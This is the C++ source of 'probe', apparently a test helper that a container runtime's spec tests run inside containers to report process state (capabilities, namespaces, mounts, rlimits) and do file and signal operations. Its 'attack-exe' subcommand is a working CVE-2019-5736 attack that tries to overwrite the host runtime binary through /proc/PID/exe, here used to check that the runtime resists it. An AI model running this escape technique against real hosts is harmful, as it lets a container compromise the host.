// probe: a tiny static program that the spec tests run inside containers.
//
//   probe [report [PATH]]     one JSON object describing the process (see report() for the
//                             keys), to stdout or written to PATH
//   probe sleep SECONDS       sleep (fractions allowed), then exit 0
//   probe exit CODE           exit with CODE
//   probe write PATH TEXT     create/truncate PATH and write TEXT
//   probe cat PATH            print the file
//   probe ls PATH             the names in a directory, sorted, one a line
//   probe stat [-L] PATH      JSON: type, mode, uid, gid, size, major/minor (rdev),
//                             link target; lstat unless -L
//   probe readlink PATH       the link target
//   probe mkdir PATH          mkdir -p
//   probe chown PATH UID GID  chown (follows symlinks)
//   probe kill-self SIG       send SIG (name like TERM/SIGTERM or number) to itself; if still
//                             alive a second later, say so and exit 2
//   probe wait-signal [FILE]  block all signals, write FILE (if given), print "ready", then
//                             print the name of the first signal received ("SIGTERM") and exit 0
//   probe exec ARGS...        execvp(ARGS)
//   probe attack-exe DEV INO STOP OUT
//                             CVE-2019-5736 attacker: until file STOP exists, for every
//                             visible pid opens /proc/PID/exe O_PATH; when that is the file
//                             DEV:INO it tries O_WRONLY and O_RDWR opens (direct, and again
//                             through the kept O_PATH fd) and writes "PWND" at offset 0 on
//                             success; a last pass follows STOP. Writes JSON counts to OUT.
//   probe syscall NR [ARG...] the raw syscall NR with up to 6 integer args (strtoull, any
//                             base); prints "errno N" (N = 0 on success) and exits 0
//
// A failing subcommand prints "<op> <path>: <strerror>" to stdout and exits 1 (exec: 127).
//
// Report notes: rlimits are the raw getrlimit values (unlimited = RLIM_INFINITY =
// 18446744073709551615, as config.json writes it). Capability sets come as hex strings
// (as in /proc/self/status) and as name lists. A value that cannot be read is null.
#include <nlohmann/json.hpp>

#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/utsname.h>
#include <termios.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <fstream>
#include <map>
#include <optional>
#include <sstream>
#include <string>
#include <vector>

extern char** environ;

namespace {

using nlohmann::json;

std::optional<std::string> read_file(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    if (!in) return std::nullopt;
    std::stringstream ss;
    ss << in.rdbuf();
    return ss.str();
}

std::vector<std::string> lines_of(const std::string& s) {
    std::vector<std::string> out;
    std::istringstream in(s);
    for (std::string l; std::getline(in, l);)
        out.push_back(l);
    return out;
}

std::vector<std::string> words_of(const std::string& s) {
    std::vector<std::string> out;
    std::istringstream in(s);
    for (std::string w; in >> w;)
        out.push_back(w);
    return out;
}

std::optional<std::string> read_link(const std::string& path) {
    char buf[4096];
    ssize_t n = ::readlink(path.c_str(), buf, sizeof(buf));
    if (n < 0) return std::nullopt;
    return std::string(buf, static_cast<size_t>(n));
}

json opt(const std::optional<std::string>& s) {
    return s ? json(*s) : json(nullptr);
}

// "Key:\tvalue" lines of /proc/self/status.
std::map<std::string, std::string> proc_status() {
    std::map<std::string, std::string> m;
    auto s = read_file("/proc/self/status");
    if (!s) return m;
    for (const auto& l : lines_of(*s)) {
        auto colon = l.find(':');
        if (colon == std::string::npos) continue;
        auto v = l.find_first_not_of(" \t", colon + 1);
        m[l.substr(0, colon)] = v == std::string::npos ? "" : l.substr(v);
    }
    return m;
}

json id_set(const std::map<std::string, std::string>& st, const char* key) {
    auto it = st.find(key);
    if (it == st.end()) return nullptr;
    auto w = words_of(it->second);
    if (w.size() < 4) return nullptr;
    return {{"real", std::stoul(w[0])},
            {"effective", std::stoul(w[1])},
            {"saved", std::stoul(w[2])},
            {"fs", std::stoul(w[3])}};
}

constexpr std::array<const char*, 41> kCapNames = {"CAP_CHOWN",
                                                   "CAP_DAC_OVERRIDE",
                                                   "CAP_DAC_READ_SEARCH",
                                                   "CAP_FOWNER",
                                                   "CAP_FSETID",
                                                   "CAP_KILL",
                                                   "CAP_SETGID",
                                                   "CAP_SETUID",
                                                   "CAP_SETPCAP",
                                                   "CAP_LINUX_IMMUTABLE",
                                                   "CAP_NET_BIND_SERVICE",
                                                   "CAP_NET_BROADCAST",
                                                   "CAP_NET_ADMIN",
                                                   "CAP_NET_RAW",
                                                   "CAP_IPC_LOCK",
                                                   "CAP_IPC_OWNER",
                                                   "CAP_SYS_MODULE",
                                                   "CAP_SYS_RAWIO",
                                                   "CAP_SYS_CHROOT",
                                                   "CAP_SYS_PTRACE",
                                                   "CAP_SYS_PACCT",
                                                   "CAP_SYS_ADMIN",
                                                   "CAP_SYS_BOOT",
                                                   "CAP_SYS_NICE",
                                                   "CAP_SYS_RESOURCE",
                                                   "CAP_SYS_TIME",
                                                   "CAP_SYS_TTY_CONFIG",
                                                   "CAP_MKNOD",
                                                   "CAP_LEASE",
                                                   "CAP_AUDIT_WRITE",
                                                   "CAP_AUDIT_CONTROL",
                                                   "CAP_SETFCAP",
                                                   "CAP_MAC_OVERRIDE",
                                                   "CAP_MAC_ADMIN",
                                                   "CAP_SYSLOG",
                                                   "CAP_WAKE_ALARM",
                                                   "CAP_BLOCK_SUSPEND",
                                                   "CAP_AUDIT_READ",
                                                   "CAP_PERFMON",
                                                   "CAP_BPF",
                                                   "CAP_CHECKPOINT_RESTORE"};

json cap_names(const std::string& hex) {
    std::uint64_t v = std::strtoull(hex.c_str(), nullptr, 16);
    json names = json::array();
    for (unsigned i = 0; i < 64; ++i) {
        if (!(v & (std::uint64_t{1} << i))) continue;
        names.push_back(i < kCapNames.size() ? std::string(kCapNames[i])
                                             : "CAP_" + std::to_string(i));
    }
    return names;
}

json capabilities(const std::map<std::string, std::string>& st) {
    json hex, names;
    for (auto [key, name] : std::array<std::pair<const char*, const char*>, 5>{{
             {"CapInh", "inheritable"},
             {"CapPrm", "permitted"},
             {"CapEff", "effective"},
             {"CapBnd", "bounding"},
             {"CapAmb", "ambient"},
         }}) {
        auto it = st.find(key);
        if (it == st.end()) continue;
        hex[name] = it->second;
        names[name] = cap_names(it->second);
    }
    return {{"hex", hex}, {"names", names}};
}

std::optional<long> status_long(const std::map<std::string, std::string>& st, const char* key,
                                int base = 10) {
    auto it = st.find(key);
    if (it == st.end() || it->second.empty()) return std::nullopt;
    return std::strtol(it->second.c_str(), nullptr, base);
}

json status_str(const std::map<std::string, std::string>& st, const char* key) {
    auto it = st.find(key);
    return it == st.end() ? json(nullptr) : json(it->second);
}

json rlimits() {
    constexpr std::array<std::pair<int, const char*>, 16> kLimits{{
        {RLIMIT_CPU, "RLIMIT_CPU"},
        {RLIMIT_FSIZE, "RLIMIT_FSIZE"},
        {RLIMIT_DATA, "RLIMIT_DATA"},
        {RLIMIT_STACK, "RLIMIT_STACK"},
        {RLIMIT_CORE, "RLIMIT_CORE"},
        {RLIMIT_RSS, "RLIMIT_RSS"},
        {RLIMIT_NPROC, "RLIMIT_NPROC"},
        {RLIMIT_NOFILE, "RLIMIT_NOFILE"},
        {RLIMIT_MEMLOCK, "RLIMIT_MEMLOCK"},
        {RLIMIT_AS, "RLIMIT_AS"},
        {RLIMIT_LOCKS, "RLIMIT_LOCKS"},
        {RLIMIT_SIGPENDING, "RLIMIT_SIGPENDING"},
        {RLIMIT_MSGQUEUE, "RLIMIT_MSGQUEUE"},
        {RLIMIT_NICE, "RLIMIT_NICE"},
        {RLIMIT_RTPRIO, "RLIMIT_RTPRIO"},
        {RLIMIT_RTTIME, "RLIMIT_RTTIME"},
    }};
    json out = json::object();
    for (auto [res, name] : kLimits) {
        rlimit rl{};
        if (::getrlimit(static_cast<__rlimit_resource>(res), &rl) != 0) {
            out[name] = nullptr;
            continue;
        }
        out[name] = {{"soft", static_cast<std::uint64_t>(rl.rlim_cur)},
                     {"hard", static_cast<std::uint64_t>(rl.rlim_max)}};
    }
    return out;
}

json namespaces() {
    json out = json::object();
    for (const char* ns : {"cgroup", "ipc", "mnt", "net", "pid", "pid_for_children", "time",
                           "time_for_children", "user", "uts"})
        out[ns] = opt(read_link(std::string("/proc/self/ns/") + ns));
    return out;
}

// mountinfo escapes space, tab, newline and backslash as \ooo.
std::string unescape(const std::string& s) {
    std::string out;
    for (size_t i = 0; i < s.size(); ++i) {
        if (s[i] == '\\' && i + 3 < s.size()) {
            int v = 0;
            bool ok = true;
            for (size_t j = 1; j <= 3; ++j) {
                char c = s[i + j];
                if (c < '0' || c > '7') ok = false;
                v = v * 8 + (c - '0');
            }
            if (ok) {
                out += static_cast<char>(v);
                i += 3;
                continue;
            }
        }
        out += s[i];
    }
    return out;
}

json mounts() {
    json out = json::array();
    auto s = read_file("/proc/self/mountinfo");
    if (!s) return nullptr;
    for (const auto& l : lines_of(*s)) {
        auto w = words_of(l);
        auto dash = std::find(w.begin(), w.end(), "-");
        if (w.size() < 10 || dash == w.end() || w.end() - dash < 4) continue;
        json opt_fields = json::array();
        for (auto it = w.begin() + 6; it != dash; ++it)
            opt_fields.push_back(*it);
        out.push_back({{"id", std::stol(w[0])},
                       {"parent", std::stol(w[1])},
                       {"major_minor", w[2]},
                       {"root", unescape(w[3])},
                       {"mount_point", unescape(w[4])},
                       {"options", w[5]},
                       {"optional", opt_fields},
                       {"fs_type", *(dash + 1)},
                       {"source", unescape(*(dash + 2))},
                       {"super_options", *(dash + 3)}});
    }
    return out;
}

json open_fds() {
    json out = json::object();
    DIR* d = ::opendir("/proc/self/fd");
    if (!d) return nullptr;
    int self = ::dirfd(d);
    while (dirent* e = ::readdir(d)) {
        if (e->d_name[0] == '.') continue;
        int fd = std::atoi(e->d_name);
        if (fd == self) continue;
        out[e->d_name] = opt(read_link(std::string("/proc/self/fd/") + e->d_name));
    }
    ::closedir(d);
    return out;
}

// The kernel's struct sched_attr (glibc 2.36 does not declare it).
struct SchedAttr {
    std::uint32_t size;
    std::uint32_t sched_policy;
    std::uint64_t sched_flags;
    std::int32_t sched_nice;
    std::uint32_t sched_priority;
    std::uint64_t sched_runtime;
    std::uint64_t sched_deadline;
    std::uint64_t sched_period;
    std::uint32_t sched_util_min;
    std::uint32_t sched_util_max;
};

json scheduler() {
    SchedAttr a{};
    if (::syscall(SYS_sched_getattr, 0, &a, sizeof(a), 0) != 0) return nullptr;
    static const std::map<unsigned, const char*> kPolicies{
        {0, "SCHED_OTHER"}, {1, "SCHED_FIFO"},     {2, "SCHED_RR"}, {3, "SCHED_BATCH"},
        {5, "SCHED_IDLE"},  {6, "SCHED_DEADLINE"}, {7, "SCHED_EXT"}};
    auto it = kPolicies.find(a.sched_policy);
    errno = 0;
    int nice = ::getpriority(PRIO_PROCESS, 0);
    return {{"policy", it == kPolicies.end() ? json(a.sched_policy) : json(it->second)},
            {"policy_raw", a.sched_policy},
            {"flags", a.sched_flags},
            {"nice", a.sched_nice},
            {"getpriority", errno == 0 ? json(nice) : json(nullptr)},
            {"priority", a.sched_priority},
            {"runtime", a.sched_runtime},
            {"deadline", a.sched_deadline},
            {"period", a.sched_period}};
}

json ioprio() {
    long v = ::syscall(SYS_ioprio_get, 1 /* IOPRIO_WHO_PROCESS */, 0);
    if (v < 0) return nullptr;
    static const char* kClasses[] = {"IOPRIO_CLASS_NONE", "IOPRIO_CLASS_RT", "IOPRIO_CLASS_BE",
                                     "IOPRIO_CLASS_IDLE"};
    long cls = v >> 13;
    return {{"raw", v},
            {"class", cls >= 0 && cls < 4 ? json(kClasses[cls]) : json(cls)},
            {"priority", v & 0x7},
            {"data", v & 0x1fff}};
}

json mempolicy() {
    int mode = 0;
    unsigned long mask[16] = {};
    if (::syscall(SYS_get_mempolicy, &mode, mask, 16 * 8 * sizeof(unsigned long), nullptr, 0) != 0)
        return nullptr;
    static const char* kModes[] = {"MPOL_DEFAULT",
                                   "MPOL_PREFERRED",
                                   "MPOL_BIND",
                                   "MPOL_INTERLEAVE",
                                   "MPOL_LOCAL",
                                   "MPOL_PREFERRED_MANY",
                                   "MPOL_WEIGHTED_INTERLEAVE"};
    int base = mode & 0xff;
    json flags = json::array();
    if (mode & (1 << 15)) flags.push_back("MPOL_F_STATIC_NODES");
    if (mode & (1 << 14)) flags.push_back("MPOL_F_RELATIVE_NODES");
    if (mode & (1 << 13)) flags.push_back("MPOL_F_NUMA_BALANCING");
    json nodes = json::array();
    for (unsigned i = 0; i < 16 * 8 * sizeof(unsigned long); ++i)
        if (mask[i / (8 * sizeof(unsigned long))] & (1UL << (i % (8 * sizeof(unsigned long)))))
            nodes.push_back(i);
    return {{"raw", mode},
            {"mode", base < 7 ? json(kModes[base]) : json(base)},
            {"flags", flags},
            {"nodes", nodes}};
}

json id_map(const char* path) {
    auto s = read_file(path);
    if (!s) return nullptr;
    json out = json::array();
    for (const auto& l : lines_of(*s)) {
        auto w = words_of(l);
        if (w.size() != 3) continue;
        out.push_back({{"containerID", std::stoull(w[0])},
                       {"hostID", std::stoull(w[1])},
                       {"size", std::stoull(w[2])}});
    }
    return out;
}

json cgroups() {
    auto s = read_file("/proc/self/cgroup");
    if (!s) return nullptr;
    json out = json::array();
    for (const auto& l : lines_of(*s)) {
        auto a = l.find(':');
        auto b = a == std::string::npos ? a : l.find(':', a + 1);
        if (b == std::string::npos) continue;
        out.push_back({{"id", std::stol(l.substr(0, a))},
                       {"controllers", l.substr(a + 1, b - a - 1)},
                       {"path", l.substr(b + 1)}});
    }
    return out;
}

json time_offsets() {
    auto s = read_file("/proc/self/timens_offsets");
    if (!s) return nullptr;
    json out = json::object();
    for (const auto& l : lines_of(*s)) {
        auto w = words_of(l);
        if (w.size() != 3) continue;
        std::string clock = w[0] == "1" ? "monotonic" : w[0] == "7" ? "boottime" : w[0];
        out[clock] = {{"secs", std::stoll(w[1])}, {"nanosecs", std::stoll(w[2])}};
    }
    return out;
}

json tty_info() {
    json out;
    out["stdin"] = ::isatty(0) == 1;
    out["stdout"] = ::isatty(1) == 1;
    out["stderr"] = ::isatty(2) == 1;
    out["name"] = nullptr;
    for (int fd = 0; fd <= 2; ++fd) {
        if (!::isatty(fd)) continue;
        char buf[256];
        if (::ttyname_r(fd, buf, sizeof(buf)) == 0) out["name"] = buf;
        winsize ws{};
        if (::ioctl(fd, TIOCGWINSZ, &ws) == 0) {
            out["rows"] = ws.ws_row;
            out["cols"] = ws.ws_col;
        }
        break;
    }
    int t = ::open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
    out["controlling"] = t >= 0;
    if (t >= 0) ::close(t);
    pid_t sid = ::tcgetsid(0);
    out["stdin_session"] = sid >= 0 ? json(sid) : json(nullptr);
    return out;
}

json report(int argc, char** argv) {
    json r;
    auto st = proc_status();
    r["pid"] = ::getpid();
    r["ppid"] = ::getppid();
    r["pgid"] = ::getpgid(0);
    r["sid"] = ::getsid(0);
    r["uid"] = id_set(st, "Uid");
    r["gid"] = id_set(st, "Gid");
    {
        int n = ::getgroups(0, nullptr);
        std::vector<gid_t> g(static_cast<size_t>(std::max(n, 0)));
        if (n > 0) n = ::getgroups(n, g.data());
        json groups = json::array();
        for (int i = 0; i < n; ++i)
            groups.push_back(g[static_cast<size_t>(i)]);
        r["groups"] = groups;
    }
    auto um = status_long(st, "Umask", 8);
    r["umask"] = um ? json(*um) : json(nullptr);
    {
        char buf[4096];
        r["cwd"] = ::getcwd(buf, sizeof(buf)) ? json(buf) : json(nullptr);
    }
    {
        char host[256] = {};
        r["hostname"] = ::gethostname(host, sizeof(host)) == 0 ? json(host) : json(nullptr);
        utsname u{};
        r["domainname"] = ::uname(&u) == 0 ? json(u.domainname) : json(nullptr);
    }
    r["capabilities"] = capabilities(st);
    auto nnp = status_long(st, "NoNewPrivs");
    r["no_new_privs"] = nnp ? json(*nnp) : json(nullptr);
    auto sec = status_long(st, "Seccomp");
    r["seccomp"] = sec ? json(*sec) : json(nullptr);
    auto secf = status_long(st, "Seccomp_filters");
    r["seccomp_filters"] = secf ? json(*secf) : json(nullptr);
    r["signals"] = {{"blocked", status_str(st, "SigBlk")},
                    {"ignored", status_str(st, "SigIgn")},
                    {"caught", status_str(st, "SigCgt")}};
    r["cpus_allowed_list"] = status_str(st, "Cpus_allowed_list");
    r["mems_allowed_list"] = status_str(st, "Mems_allowed_list");
    r["securebits"] = ::prctl(PR_GET_SECUREBITS, 0, 0, 0, 0);
    r["dumpable"] = ::prctl(PR_GET_DUMPABLE, 0, 0, 0, 0);
    r["rlimits"] = rlimits();
    auto oom = read_file("/proc/self/oom_score_adj");
    r["oom_score_adj"] = oom ? json(std::atoi(oom->c_str())) : json(nullptr);
    r["namespaces"] = namespaces();
    r["mounts"] = mounts();
    r["fds"] = open_fds();
    json env = json::array();
    for (char** e = environ; e && *e; ++e)
        env.push_back(*e);
    r["env"] = env;
    json args = json::array();
    for (int i = 0; i < argc; ++i)
        args.push_back(argv[i]);
    r["args"] = args;
    int pers = ::personality(0xffffffff);
    r["personality"] = {{"raw", pers},
                        {"domain", (pers & PER_MASK) == PER_LINUX32 ? "LINUX32"
                                   : (pers & PER_MASK) == PER_LINUX ? "LINUX"
                                                                    : "OTHER"}};
    r["scheduler"] = scheduler();
    r["ioprio"] = ioprio();
    r["mempolicy"] = mempolicy();
    r["uid_map"] = id_map("/proc/self/uid_map");
    r["gid_map"] = id_map("/proc/self/gid_map");
    auto setgroups = read_file("/proc/self/setgroups");
    if (setgroups && !setgroups->empty() && setgroups->back() == '\n') setgroups->pop_back();
    r["setgroups"] = opt(setgroups);
    r["time_offsets"] = time_offsets();
    r["cgroup"] = cgroups();
    r["tty"] = tty_info();
    r["exe"] = opt(read_link("/proc/self/exe"));
    return r;
}

int fail(const std::string& what) {
    std::printf("%s: %s\n", what.c_str(), std::strerror(errno));
    return 1;
}

int usage() {
    std::fprintf(stderr, "usage: probe [report [PATH]|sleep N|exit N|write PATH TEXT|cat PATH|"
                         "ls PATH|stat [-L] PATH|readlink PATH|mkdir PATH|chown PATH UID GID|"
                         "kill-self SIG|wait-signal [FILE]|exec ARGS...]\n");
    return 2;
}

std::string signal_name(int sig) {
    if (sig >= SIGRTMIN && sig <= SIGRTMAX) return "SIGRTMIN+" + std::to_string(sig - SIGRTMIN);
    const char* abbrev = ::sigabbrev_np(sig);
    return abbrev ? std::string("SIG") + abbrev : std::to_string(sig);
}

int parse_signal(std::string s) {
    if (!s.empty() && std::isdigit(static_cast<unsigned char>(s[0]))) return std::atoi(s.c_str());
    if (s.starts_with("SIG")) s = s.substr(3);
    for (int sig = 1; sig < NSIG; ++sig) {
        const char* abbrev = ::sigabbrev_np(sig);
        if (abbrev && s == abbrev) return sig;
    }
    return -1;
}

int write_report(const json& r, const char* path) {
    std::string text = r.dump() + "\n";
    if (!path) {
        std::fwrite(text.data(), 1, text.size(), stdout);
        return std::fflush(stdout) == 0 ? 0 : 1;
    }
    std::string tmp = std::string(path) + ".tmp";
    FILE* f = std::fopen(tmp.c_str(), "w");
    if (!f) return fail(std::string("open ") + tmp);
    std::fwrite(text.data(), 1, text.size(), f);
    if (std::fclose(f) != 0) return fail(std::string("write ") + tmp);
    if (std::rename(tmp.c_str(), path) != 0) return fail(std::string("rename ") + path);
    return 0;
}

const char* file_type(mode_t m) {
    if (S_ISREG(m)) return "file";
    if (S_ISDIR(m)) return "dir";
    if (S_ISLNK(m)) return "symlink";
    if (S_ISCHR(m)) return "char";
    if (S_ISBLK(m)) return "block";
    if (S_ISFIFO(m)) return "fifo";
    if (S_ISSOCK(m)) return "socket";
    return "unknown";
}

int cmd_stat(int argc, char** argv) {
    bool follow = argc >= 4 && std::string(argv[2]) == "-L";
    if (argc != (follow ? 4 : 3)) return usage();
    const char* path = argv[follow ? 3 : 2];
    struct stat st {};
    if ((follow ? ::stat(path, &st) : ::lstat(path, &st)) != 0)
        return fail(std::string("stat ") + path);
    json j = {{"type", file_type(st.st_mode)},
              {"mode", st.st_mode & 07777},
              {"uid", st.st_uid},
              {"gid", st.st_gid},
              {"size", st.st_size},
              {"nlink", st.st_nlink},
              {"major", major(st.st_rdev)},
              {"minor", minor(st.st_rdev)},
              {"dev_major", major(st.st_dev)},
              {"dev_minor", minor(st.st_dev)},
              {"ino", st.st_ino}};
    if (S_ISLNK(st.st_mode)) j["target"] = opt(read_link(path));
    return write_report(j, nullptr);
}

int cmd_wait_signal(int argc, char** argv) {
    sigset_t all;
    ::sigfillset(&all);
    ::sigprocmask(SIG_BLOCK, &all, nullptr);
    if (argc >= 3) {
        FILE* f = std::fopen(argv[2], "w");
        if (!f) return fail(std::string("open ") + argv[2]);
        std::fclose(f);
    }
    std::printf("ready\n");
    std::fflush(stdout);
    for (;;) {
        int sig = ::sigwaitinfo(&all, nullptr);
        if (sig < 0) {
            if (errno == EINTR) continue;
            return fail("sigwaitinfo");
        }
        std::printf("%s\n", signal_name(sig).c_str());
        std::fflush(stdout);
        return 0;
    }
}

int cmd_mkdir(const std::string& path) {
    for (size_t i = 1; i <= path.size(); ++i) {
        if (i != path.size() && path[i] != '/') continue;
        std::string p = path.substr(0, i);
        if (::mkdir(p.c_str(), 0755) != 0 && errno != EEXIST) return fail("mkdir " + p);
    }
    return 0;
}

// See the usage at the top (attack-exe).
int cmd_attack_exe(char** argv) {
    const auto dev = static_cast<dev_t>(std::stoull(argv[2]));
    const auto ino = static_cast<ino_t>(std::stoull(argv[3]));
    const std::string stop = argv[4];
    long attempts = 0, write_opens = 0, hull_seen = 0, denied = 0, scans = 0;
    std::map<std::string, long> errors;
    std::vector<int> kept;
    auto try_write = [&](const std::string& path) {
        for (int flags : {O_WRONLY, O_RDWR}) {
            ++attempts;
            int w = ::open(path.c_str(), flags | O_CLOEXEC);
            if (w < 0) {
                ++errors[std::strerror(errno)];
                continue;
            }
            ++write_opens;
            (void)!::pwrite(w, "PWND", 4, 0);
            ::close(w);
        }
    };
    auto retry_kept = [&] {
        for (int fd : kept)
            try_write("/proc/self/fd/" + std::to_string(fd));
    };
    while (::access(stop.c_str(), F_OK) != 0) {
        ++scans;
        DIR* d = ::opendir("/proc");
        if (!d) return fail("opendir /proc");
        while (dirent* e = ::readdir(d)) {
            char* end = nullptr;
            long pid = std::strtol(e->d_name, &end, 10);
            if (*end || pid <= 0 || pid == ::getpid()) continue;
            std::string exe = std::string("/proc/") + e->d_name + "/exe";
            int fd = ::open(exe.c_str(), O_PATH | O_CLOEXEC);
            if (fd < 0) {
                if (errno == EACCES || errno == EPERM) ++denied;
                continue;
            }
            struct stat st {};
            if (::fstat(fd, &st) != 0 || st.st_dev != dev || st.st_ino != ino) {
                ::close(fd);
                continue;
            }
            ++hull_seen;
            try_write(exe);
            if (kept.size() < 32)
                kept.push_back(fd);
            else
                ::close(fd);
        }
        ::closedir(d);
        retry_kept();
    }
    retry_kept(); // hull has exited by now: nothing runs the file any more
    json errs = json::object();
    for (const auto& [k, v] : errors)
        errs[k] = v;
    json out = {{"attempts", attempts},   {"write_opens", write_opens},
                {"hull_seen", hull_seen}, {"denied", denied},
                {"scans", scans},         {"errors", errs}};
    return write_report(out, argv[5]);
}

int dispatch(int argc, char** argv) {
    std::string cmd = argc >= 2 ? argv[1] : "report";
    if (cmd == "report") return write_report(report(argc, argv), argc >= 3 ? argv[2] : nullptr);
    if (cmd == "sleep" && argc == 3) {
        double secs = std::atof(argv[2]);
        timespec ts{
            static_cast<time_t>(secs),
            static_cast<long>((secs - static_cast<double>(static_cast<time_t>(secs))) * 1e9)};
        while (::nanosleep(&ts, &ts) != 0 && errno == EINTR) {
        }
        return 0;
    }
    if (cmd == "exit" && argc == 3) return std::atoi(argv[2]);
    if (cmd == "write" && argc == 4) {
        int fd = ::open(argv[2], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (fd < 0) return fail(std::string("open ") + argv[2]);
        size_t len = std::strlen(argv[3]);
        ssize_t n = ::write(fd, argv[3], len);
        int err = errno;
        ::close(fd);
        errno = err;
        if (n != static_cast<ssize_t>(len)) return fail(std::string("write ") + argv[2]);
        return 0;
    }
    if (cmd == "cat" && argc == 3) {
        int fd = ::open(argv[2], O_RDONLY | O_CLOEXEC);
        if (fd < 0) return fail(std::string("open ") + argv[2]);
        char buf[65536];
        for (;;) {
            ssize_t n = ::read(fd, buf, sizeof(buf));
            if (n < 0) return fail(std::string("read ") + argv[2]);
            if (n == 0) break;
            std::fwrite(buf, 1, static_cast<size_t>(n), stdout);
        }
        ::close(fd);
        return std::fflush(stdout) == 0 ? 0 : 1;
    }
    if (cmd == "ls" && argc == 3) {
        DIR* d = ::opendir(argv[2]);
        if (!d) return fail(std::string("opendir ") + argv[2]);
        std::vector<std::string> names;
        while (dirent* e = ::readdir(d))
            if (std::strcmp(e->d_name, ".") != 0 && std::strcmp(e->d_name, "..") != 0)
                names.emplace_back(e->d_name);
        ::closedir(d);
        std::sort(names.begin(), names.end());
        for (const auto& n : names)
            std::printf("%s\n", n.c_str());
        return 0;
    }
    if (cmd == "stat") return cmd_stat(argc, argv);
    if (cmd == "readlink" && argc == 3) {
        auto t = read_link(argv[2]);
        if (!t) return fail(std::string("readlink ") + argv[2]);
        std::printf("%s\n", t->c_str());
        return 0;
    }
    if (cmd == "mkdir" && argc == 3) return cmd_mkdir(argv[2]);
    if (cmd == "chown" && argc == 5) {
        if (::chown(argv[2], static_cast<uid_t>(std::stoul(argv[3])),
                    static_cast<gid_t>(std::stoul(argv[4]))) != 0)
            return fail(std::string("chown ") + argv[2]);
        return 0;
    }
    if (cmd == "kill-self" && argc == 3) {
        int sig = parse_signal(argv[2]);
        if (sig <= 0) return usage();
        if (::kill(::getpid(), sig) != 0) return fail("kill");
        ::sleep(1);
        std::printf("still alive after %s\n", signal_name(sig).c_str());
        return 2;
    }
    if (cmd == "wait-signal" && argc <= 3) return cmd_wait_signal(argc, argv);
    if (cmd == "attack-exe" && argc == 6) return cmd_attack_exe(argv);
    if (cmd == "syscall" && argc >= 3 && argc <= 9) {
        long a[6] = {};
        for (int i = 3; i < argc; ++i)
            a[i - 3] = static_cast<long>(std::strtoull(argv[i], nullptr, 0));
        errno = 0;
        long rc = ::syscall(std::strtol(argv[2], nullptr, 0), a[0], a[1], a[2], a[3], a[4], a[5]);
        std::printf("errno %d\n", rc < 0 ? errno : 0);
        return 0;
    }
    if (cmd == "exec" && argc >= 3) {
        ::execvp(argv[2], argv + 2);
        fail(std::string("exec ") + argv[2]);
        return 127;
    }
    return usage();
}

} // namespace

int main(int argc, char** argv) {
    try {
        return dispatch(argc, argv);
    } catch (const std::exception& e) {
        std::printf("probe: %s\n", e.what());
        return 3;
    }
}
